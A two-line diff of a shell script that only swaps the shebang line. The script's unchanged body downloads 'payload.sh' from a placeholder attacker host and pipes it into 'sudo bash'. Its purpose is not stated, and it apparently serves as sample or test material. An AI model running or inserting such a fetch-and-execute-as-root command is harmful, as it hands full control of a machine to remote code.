@@ -1,2 +1,2 @@
-#!/bin/sh
+#!/usr/bin/env bash
 wget -qO- http://evil.example.com/payload.sh | sudo bash
